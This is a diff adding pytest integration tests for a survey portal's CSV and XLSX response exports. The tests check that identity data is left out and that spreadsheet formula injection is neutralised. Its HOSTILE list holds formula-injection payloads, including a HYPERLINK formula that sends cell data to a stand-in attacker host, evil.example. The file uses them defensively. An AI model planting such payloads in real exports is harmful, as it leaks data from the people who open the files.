@@ -1,0 +1,165 @@
+"""Exports: one row per response, codes and labels, no identity, nothing a spreadsheet executes."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import openpyxl
+import pytest
+
+from portal.db import database, utcnow
+from surveys import exports
+from surveys.answering import submit_response
+from surveys.campaigns import campaign_definition
+from tests.integration.surveys.builders import answers_for, make_campaign, make_invitation
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+    "+1+2",
+    "-2+3",
+    "@SUM(1,2)",
+    "  =1+1",
+    "\tTabbed",
+    "\rCarriage",
+]
+
+
+def arrange(app, shipped, comments: list[str]) -> int:
+    definition = shipped["volunteer_exit"]
+    with database(app).transaction() as session:
+        campaign = make_campaign(session)
+        for number, comment in enumerate(comments):
+            invitation, _ = make_invitation(
+                session,
+                campaign,
+                email=f"secret{number}@example.org",
+                name="Secret Name",
+                gender="female",
+                age=24,
+                nationality="FJI",
+            )
+            answers = answers_for(
+                definition, comments=comment, skills_gained=["technical", "digital"]
+            )
+            submit_response(
+                session,
+                invitation,
+                campaign_definition(campaign),
+                answers,
+                utcnow(),
+                "developing_2017",
+            )
+        return campaign.id
+
+
+def test_neutralise_prefixes_executable_text_and_keeps_numbers() -> None:
+    assert [exports.neutralise(value) for value in HOSTILE] == ["'" + value for value in HOSTILE]
+    assert exports.neutralise("A fine comment - really") == "A fine comment - really"
+    assert exports.neutralise(-5) == -5
+    assert exports.neutralise(3.5) == 3.5
+
+
+def test_xlsx_has_no_formula_cells_and_keeps_the_text(app, shipped) -> None:
+    campaign_id = arrange(app, shipped, HOSTILE)
+    buffer = io.BytesIO()
+    exports.export_xlsx(database(app).transaction, campaign_id, "en", buffer)
+    workbook = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))
+    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
+    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    sheet = workbook["responses"]
+    header = [cell.value for cell in sheet[1]]
+    comments = [
+        row[header.index("comments")] for row in sheet.iter_rows(min_row=3, values_only=True)
+    ]
+    assert sorted(comments) == sorted("'" + value for value in HOSTILE)
+    assert all(value.startswith("'") for value in comments)
+    assert "codebook" in workbook.sheetnames
+
+
+def test_xlsx_numbers_stay_numeric(app, shipped) -> None:
+    campaign_id = arrange(app, shipped, ["fine"])
+    buffer = io.BytesIO()
+    exports.export_xlsx(database(app).transaction, campaign_id, "en", buffer)
+    sheet = openpyxl.load_workbook(io.BytesIO(buffer.getvalue()))["responses"]
+    header = [cell.value for cell in sheet[1]]
+    row = [cell for cell in sheet[3]]
+    assert row[header.index("response")].data_type == "n"
+    assert row[header.index("reporting_year")].value == utcnow().year
+
+
+def test_csv_has_codes_labels_and_two_header_rows_and_no_identity(app, shipped) -> None:
+    campaign_id = arrange(app, shipped, ["=1+1", "plain"])
+    buffer = io.BytesIO()
+    exports.export_csv(database(app).transaction, campaign_id, "fr", buffer)
+    raw = buffer.getvalue()
+    assert raw.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    keys, labels, data = rows[0], rows[1], rows[2:]
+    assert len(data) == 2
+    assert "satisfied_experience" in keys and "satisfied_experience_label" in keys
+    definition = shipped["volunteer_exit"]
+    assert (
+        labels[keys.index("satisfied_experience")]
+        == definition.question("satisfied_experience").label["fr"]
+    )
+    first = dict(zip(keys, data[0], strict=True))
+    assert first["satisfied_experience"] == "fully_agree"
+    assert first["satisfied_experience_label"] == "Tout à fait d'accord"
+    assert first["skills_gained"] == "technical;digital"
+    assert (first["gender"], first["youth"], first["sids"], first["age_band"]) == (
+        "female",
+        "yes",
+        "yes",
+        "18_29",
+    )
+    text = raw.decode("utf-8-sig")
+    assert "secret0@example.org" not in text and "Secret Name" not in text
+    assert "FJI" not in text  # nationality is never exported, only its groups
+    assert sorted(row[keys.index("comments")] for row in data) == ["'=1+1", "plain"]
+
+
+def test_a_large_csv_export_streams_in_batches(app, shipped, monkeypatch) -> None:
+    monkeypatch.setattr(exports, "BATCH", 2)
+    campaign_id = arrange(app, shipped, [f"comment {n}" for n in range(5)])
+    rows = list(exports.iter_rows(database(app).transaction, campaign_id, "en"))
+    assert len(rows) == 2 + 5
+    assert [row[0] for row in rows[2:]] == sorted(row[0] for row in rows[2:])
+
+
+def test_cli_exports_both_formats(app, runner, shipped, tmp_path) -> None:
+    campaign_id = arrange(app, shipped, ["@cmd"])
+    for fmt in ("csv", "xlsx"):
+        out = tmp_path / f"export.{fmt}"
+        result = runner.invoke(
+            args=[
+                "surveys",
+                "export-responses",
+                str(campaign_id),
+                "--format",
+                fmt,
+                "--out",
+                str(out),
+            ]
+        )
+        assert result.exit_code == 0, result.output
+        assert out.stat().st_size > 0
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_staff_download_of_an_export(app, auth, client, shipped, fmt) -> None:
+    from tests.factories import make_user
+
+    campaign_id = arrange(app, shipped, ["+danger"])
+    with database(app).transaction() as session:
+        user = make_user(session, "staff")
+    auth.login(user.email)
+    response = client.get(f"/surveys/campaigns/{campaign_id}/export/{fmt}")
+    assert response.status_code == 200
+    assert f"campaign-{campaign_id}-volunteer_exit" in response.headers["Content-Disposition"]
+    body = response.get_data()
+    if fmt == "csv":
+        assert "'+danger" in body.decode("utf-8-sig")
+    else:
+        sheet = openpyxl.load_workbook(io.BytesIO(body))["responses"]
+        assert "'+danger" in [cell.value for row in sheet.iter_rows() for cell in row]
